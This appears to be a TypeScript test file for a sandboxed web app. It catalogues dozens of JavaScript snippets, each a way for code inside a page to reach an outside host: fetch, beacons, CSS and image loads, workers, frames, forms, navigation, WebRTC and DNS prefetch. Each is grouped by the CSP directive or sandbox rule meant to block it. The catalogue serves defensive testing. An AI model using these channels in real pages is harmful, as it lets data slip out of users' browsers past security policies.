import { alone, byName, type Line, notIn, openIn, type Route, routes } from './route.ts';

const dataWorker = "pass.createScriptURL(`data:text/javascript,fetch('${url}')`)";
/** The same path on the page's own host: workers come from nowhere else. */
const near = 'pass.createScriptURL(new URL(new URL(url).pathname, document.baseURI).href)';
const blobWorker = `new Worker(pass.createScriptURL(URL.createObjectURL(new Blob([\`fetch('\${url}')\`]))))`;
const image = '`<img src="${url}">`';
const inFrame = (html: string): string => `add('iframe', { srcdoc: pass.createHTML(\`${html}\`) })`;
const rule = (css: string): string =>
  `document.head.append(Object.assign(document.createElement('style'), { textContent: \`${css}\` }))`;
const adopt = (css: string): string =>
  `const sheet = new CSSStyleSheet(); document.adoptedStyleSheets.push(sheet); sheet.replaceSync(\`${css}\`)`;
const peer = (server: string, realm = 'globalThis'): string =>
  `const { RTCPeerConnection, webkitRTCPeerConnection = RTCPeerConnection } = ${realm};
   const peer = new (RTCPeerConnection ?? webkitRTCPeerConnection)({ iceServers: [{ ${server}, username: 'x', credential: 'x' }] });
   peer.createDataChannel(''); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`;

const stun = 'urls: `stun:127.0.0.1:${port}`';

const connections: Record<string, Line> = {
  fetch: `fetch(url)`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', url); request.send()`,
  WebSocket: `new WebSocket(url.replace('http', 'ws'))`,
  EventSource: `new EventSource(url)`,
  WebTransport: notIn(['webkit'], { code: 'new WebTransport(`https://127.0.0.1:${port}/`)', port: 'udp' }),
};

/**
 * Ways out of a page, as code an attacker inside it would run. SECURITY.md has the same table; the test
 * compares the two. A line that does not work is found by the control, which has to hear every one of them.
 */
export const attacks: Route[] = [
  ...routes('app', "connect-src 'none'", {
    ...connections,
    'fetch, keepalive': `fetch(url, { method: 'POST', body: 'x', keepalive: true })`,
    fetchLater: notIn(['firefox', 'webkit'], `fetchLater(url, { activateAfter: 0 })`),
    sendBeacon: `navigator.sendBeacon(url, 'x')`,
    'fetch of an empty frame': `add('iframe').contentWindow.fetch(url)`,
    'fetch of an empty window': notIn(['webkit'], `open('about:blank').fetch(url)`),
    'fetch of a new worker': `new Worker(${dataWorker})`,
    'worker from an address': notIn(['file'], `new Worker(${near})`),
    'service worker': notIn(['file', 'webkit'], `navigator.serviceWorker.register(${near})`),
    FedCM: notIn(
      ['firefox', 'webkit'],
      `navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x' }] } })`,
    ),
    'fetch, by name': byName('fetch(`http://${host}/`)'),
    'WebSocket, by name': byName('new WebSocket(`ws://${host}/`)'),
    'sendBeacon, by name': byName('navigator.sendBeacon(`http://${host}/`, "x")'),
    'fetch of the shell': `parent.fetch(url)`,
    'a[ping]': notIn(['firefox'], alone(`click({ href: '#ping', ping: url })`)),
    PaymentRequest: notIn(
      ['firefox', 'webkit'],
      `new PaymentRequest([{ supportedMethods: url }],
      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
    ),
  }),
  ...routes('app', 'worker-src data:', { 'fetch of a new blob: worker': blobWorker }),
  ...routes('app', 'img-src data:', {
    'img src': `new Image().src = url`,
    'img, by name': byName('new Image().src = `http://${host}/`'),
    'background attribute': `add('table', { background: url })`,
    'SVG feImage': `const svg = add('svg'); svg.innerHTML = pass.createHTML(
      '<filter id="f"><feImage href="' + url + '"/></filter><rect width="9" height="9" filter="url(#f)"/>')`,
    'CSS image-set': 'add("p").style.background = `image-set("${url}" 1x)`',
    'CSS border image':
      'add("p").style.border = "1px solid"; document.body.lastChild.style.borderImageSource = `url(${url})`',
    'CSS cursor': 'add("p").style.cursor = `url(${url}), auto`',
    'CSS mask': 'add("p", {}).append("x"); document.body.lastChild.style.mask = `url(${url})`',
    'CSS content': 'add("p").style.content = `url(${url})`',
    'link preload, image': `add('link', { rel: 'preload', as: 'image', href: url })`,
    'img srcset': `new Image().srcset = url + ' 1x'`,
    'picture source': `const picture = add('picture'); add('source', { srcset: url }, picture); add('img', {}, picture)`,
    'input type=image': `add('input', { type: 'image', src: url })`,
    'video poster': `add('video', { poster: url })`,
    'SVG image': `add('image', { href: url, width: 9, height: 9 }, add('svg'))`,
    'CSS background, style property': 'add("p").style.background = `url(${url})`',
    'CSS background, inserted rule': 'document.styleSheets[0].insertRule(`html { background: url(${url}) }`)',
    'CSS background, adopted sheet': adopt('body { background: url(${url}) }'),
    'CSS list image': 'add("li").style.listStyle = `url(${url})`',
    'link icon': notIn(
      ['chromium', 'firefox', 'webkit'],
      `add('link', { rel: 'icon', href: url }, document.head)`,
    ),
    'img of a srcdoc frame': inFrame('<img src="${url}">'),
    'img of an empty window': notIn(
      ['webkit'],
      `const { document: other } = open('about:blank');
      other.body.append(Object.assign(other.createElement('img'), { src: url }))`,
    ),
  }),
  ...routes('app', "style-src 'sha256-…'", {
    'CSS background, style attribute': 'add("p", { style: `background: url(${url})` })',
    'CSS background, style element': rule('main { background: url(${url}) }'),
    'CSS @import': rule('@import "${url}"'),
    'link stylesheet, by name': byName("add('link', { rel: 'stylesheet', href: `http://${host}/` })"),
    'link stylesheet': `add('link', { rel: 'stylesheet', href: url })`,
    'link preload, style': `add('link', { rel: 'preload', as: 'style', href: url })`,
  }),
  ...routes('app', "font-src 'none'", {
    '@font-face': adopt('@font-face { font-family: x; src: url(${url}) } body { font-family: x }'),
    FontFace: 'new FontFace("y", `url(${url})`).load()',
    'link preload, font': `add('link', { rel: 'preload', as: 'font', crossorigin: '', href: url })`,
  }),
  ...routes('app', "script-src 'sha256-…'", {
    'script src, by name': byName("add('script', { src: pass.createScriptURL(`http://${host}/`) })"),
    'SVG script': `const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      script.setAttribute('href', trusted); add('svg').append(script)`,
    'script of a srcdoc frame': inFrame('<script src="${url}"></script>'),
    'import map': notIn(
      ['firefox'],
      `const map = { imports: { far: url } };
      document.head.append(Object.assign(document.createElement('script'),
        { type: 'importmap', text: pass.createScript(JSON.stringify(map)) }));
      add('script', { type: 'module' }).text = pass.createScript('import "far"')`,
    ),
    'script src': `add('script', { src: trusted })`,
    'script type=module': `add('script', { type: 'module', src: trusted })`,
    'dynamic import': `import(url)`,
    'link modulepreload': `add('link', { rel: 'modulepreload', href: url })`,
    'link preload, script': `add('link', { rel: 'preload', as: 'script', href: url })`,
    'javascript: address': "open(`javascript:void fetch('${url}')`, '_self')",
    AudioWorklet: `new AudioContext().audioWorklet.addModule(url)`,
    'speculation rules': notIn(['chromium', 'firefox', 'webkit'], {
      front: true,
      code: `const rules = { prefetch: [{ urls: [url], eagerness: 'immediate' }] };
      document.head.append(Object.assign(document.createElement('script'),
        { type: 'speculationrules', text: pass.createScript(JSON.stringify(rules)) }))`,
    }),
  }),
  ...routes('app', "default-src 'none'", {
    'link preload, fetch': `add('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: url })`,
    'link dictionary': notIn(['webkit'], `add('link', { rel: 'compression-dictionary', href: url })`),
    'link prefetch, by name': notIn(
      ['firefox', 'webkit'],
      byName("add('link', { rel: 'prefetch', href: `http://${host}/` })"),
    ),
    'video source': `add('source', { src: url }, add('video'))`,
    'video src': `add('video', { src: url })`,
    'audio src': `add('audio', { src: url, preload: 'auto' })`,
    'video track': `const video = add('video', { crossorigin: '' });
      add('track', { src: url }, video).track.mode = 'showing'`,
    'link manifest': notIn(
      ['chromium', 'firefox', 'webkit'],
      `add('link', { rel: 'manifest', href: url }, document.head)`,
    ),
    'link prefetch': notIn(['firefox', 'webkit'], `add('link', { rel: 'prefetch', href: url })`),
  }),
  ...routes('app', "frame-src 'none'", {
    'location =, by name': openIn(['chromium'], byName(alone('location = `http://${host}/`'))),
    'a click, by name': openIn(['chromium', 'firefox'], byName(alone('click({ href: `http://${host}/` })'))),
    'location =, connection': openIn(['chromium'], {
      code: 'location = `http://127.0.0.1:${port}/`',
      alone: true,
      port: 'tcp',
    }),
    'iframe src, connection': openIn(['chromium'], {
      code: "add('iframe', { src: `http://127.0.0.1:${port}/` })",
      port: 'tcp',
    }),
    'iframe src, by name': openIn(['chromium'], byName("add('iframe', { src: `http://${host}/` })")),
    'SVG a click': alone(`const link = document.createElementNS('http://www.w3.org/2000/svg', 'a');
      link.setAttribute('href', url); add('svg').append(link);
      link.addEventListener('click', (event) => event.stopPropagation()); link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`),
    'area click': alone(`const area = add('area', { href: url, shape: 'default' }, add('map', { name: 'm' }));
      area.addEventListener('click', (event) => event.stopPropagation()); area.click()`),
    'location =': alone(`location = url`),
    'location = data:': alone('location = `data:text/html,<img src="${url}">`'),
    'location = blob:': alone(`location = URL.createObjectURL(new Blob([${image}], { type: 'text/html' }))`),
    'a click': alone(`click({ href: url })`),
    'a click, download': alone(`click({ href: url, download: 'x' })`),
    'meta refresh': alone(`add('meta', { 'http-equiv': 'refresh', content: '0;url=' + url }, document.head)`),
    'document.write of a refresh': alone(
      `document.write(pass.createHTML('<meta http-equiv=refresh content="0;url=' + url + '">')); document.close()`,
    ),
    'navigation.navigate': notIn(['webkit'], alone(`navigation.navigate(url)`)),
    'iframe src': `add('iframe', { src: url })`,
    'address of a frame': `add('iframe').contentWindow.location = url`,
    'meta refresh of a srcdoc frame': notIn(
      ['webkit'],
      inFrame('<meta http-equiv=refresh content="0;url=${url}">'),
    ),
    'img of a data: frame': 'add("iframe", { src: `data:text/html,<img src="${url}">` })',
    'img of a blob: frame': `const html = new Blob([\`<img src="\${url}">\`], { type: 'text/html' });
      add('iframe', { src: URL.createObjectURL(html) })`,
  }),
  ...routes('app', "object-src 'none'", {
    object: `add('object', { data: trusted })`,
    embed: `add('embed', { src: trusted })`,
  }),
  ...routes('app', "form-action 'none'", {
    'form, by name': byName(alone("add('form', { action: `http://${host}/` }).submit()")),
    'button formaction': alone(`add('button', { formaction: url }, add('form')).click()`),
    'form, GET': alone(`add('form', { action: url }).submit()`),
    'form, POST': alone(`add('form', { action: url, method: 'post' }).submit()`),
    'form, new window': notIn(['webkit'], `add('form', { action: url, target: '_blank' }).submit()`),
  }),
  ...routes('worker', "connect-src 'none'", {
    ...connections,
    'fetch, by name': byName('fetch(`http://${host}/`)'),
    'WebSocket, by name': byName('new WebSocket(`ws://${host}/`)'),
  }),
  ...routes('worker', "font-src 'none'", {
    FontFace: notIn(['webkit'], 'new FontFace("y", `url(${url})`).load()'),
  }),
  ...routes('worker', "script-src 'sha256-…'", {
    'importScripts, by name': byName('importScripts(pass.createScriptURL(`http://${host}/`))'),
    importScripts: `importScripts(trusted)`,
    'dynamic import': `import(url)`,
  }),
  // Last: Firefox runs nothing after them in a worker of a file.
  ...routes('worker', "connect-src 'none'", {
    'fetch of a nested worker': notIn(['firefox file'], `new Worker(${dataWorker})`),
  }),
  ...routes('worker', 'worker-src data:', {
    'fetch of a nested blob: worker': notIn(['firefox file', 'webkit'], blobWorker),
  }),
  ...routes('app', 'the sandbox', {
    'location of the shell': alone(`parent.location = url`),
    'location of the shell, replaced': alone(`top.location.replace(url)`),
    'a click, _top': alone(`click({ href: url, target: '_top' })`),
    'a click, _parent': alone(`click({ href: url, target: '_parent' })`),
    'a click, new window': notIn(['webkit'], `click({ href: url, target: '_blank' })`),
    'a click, named window': notIn(['webkit'], `click({ href: url, target: 'other' })`),
    'form, _top': alone(`add('form', { action: url, target: '_top' }).submit()`),
    'form, _parent': alone(`add('form', { action: url, target: '_parent' }).submit()`),
    'window.open': notIn(['webkit'], `open(url)`),
    'window.open, by name': notIn(['webkit'], byName('open(`http://${host}/`)')),
    'location of the shell, by name': byName(alone('top.location = `http://${host}/`')),
    'window.open, _top': alone(`open(url, '_top')`),
    'image in the shell': `parent.document.body.append(Object.assign(new parent.Image(), { src: url }))`,
    'the frame without its sandbox': alone(`const { frameElement } = window;
      frameElement.removeAttribute('sandbox'); frameElement.removeAttribute('srcdoc'); frameElement.src = url`),
    'WebRTC of an empty frame': notIn(['firefox', 'webkit'], {
      code: peer(stun, "add('iframe').contentWindow"),
      port: 'udp',
    }),
    'WebRTC of an empty window': notIn(['firefox', 'webkit'], {
      code: peer(stun, "open('about:blank')"),
      port: 'udp',
    }),
    'WebRTC of the shell': notIn(['firefox', 'webkit'], { code: peer(stun, 'parent'), port: 'udp' }),
  }),
  ...routes('app', 'src/lockdown.ts', {
    'fetch of a shared worker, data:': notIn(['chromium'], `new SharedWorker(${dataWorker})`),
    'fetch of a shared worker, blob:': notIn(
      ['chromium file'],
      `new SharedWorker(pass.createScriptURL(URL.createObjectURL(new Blob([\`fetch('\${url}')\`]))))`,
    ),
    'shared worker from an address': notIn(['file'], `new SharedWorker(${near})`),
    'WebRTC, STUN by name': notIn(['webkit'], byName(peer('urls: `stun:${host}`'))),
    'WebRTC, STUN over UDP': notIn(['firefox', 'webkit'], { code: peer(stun), port: 'udp' }),
    'WebRTC, TURN over TCP': notIn(['firefox', 'webkit'], {
      code: peer('urls: `turn:127.0.0.1:${port}?transport=tcp`'),
      port: 'tcp',
    }),
  }),
  ...routes('app', 'disconnecting', {
    'link preconnect': openIn(
      ['chromium', 'webkit'],
      notIn(['firefox'], {
        code: "add('link', { rel: 'preconnect', href: `http://127.0.0.1:${port}` })",
        port: 'tcp',
      }),
    ),
    'link preconnect, by name': notIn(
      ['firefox'],
      openIn(['chromium', 'webkit'], byName("add('link', { rel: 'preconnect', href: `http://${host}` })")),
    ),
    'link dns-prefetch': openIn(
      ['chromium', 'firefox', 'webkit'],
      byName("add('link', { rel: 'dns-prefetch', href: `http://${host}` })"),
    ),
    'a href, never clicked': notIn(
      ['chromium', 'webkit'],
      openIn(
        ['firefox'],
        // Firefox looks it up when it has nothing else to do.
        byName(
          alone(`add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }, document.head);
          add('a', { href: 'http://' + host + '/' }).append('x')`),
        ),
      ),
    ),
  }),
];
